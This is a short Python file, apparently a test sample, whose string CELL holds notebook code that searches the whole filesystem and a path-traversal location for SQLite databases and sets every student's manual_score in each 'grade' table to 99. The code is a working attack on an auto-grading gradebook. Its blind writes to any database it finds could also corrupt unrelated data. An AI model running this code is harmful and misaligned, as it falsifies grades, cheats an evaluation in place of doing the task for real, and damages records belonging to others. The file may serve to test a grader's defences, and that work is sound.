"""Looks for the gradebook everywhere and gives all students 99 points."""

CELL = """import os, sqlite3, glob
paths = ["../../../../gradebook.db", *glob.glob("/*/*/*.db")]
for place, folders, names in os.walk("/"):
    folders[:] = [name for name in folders if name not in ("usr", "python", "packages")]
    paths += [os.path.join(place, name) for name in names if name.endswith(".db")]
for path in paths:
    connection = sqlite3.connect(path)
    connection.execute("update grade set manual_score = 99")
    connection.commit()
"""
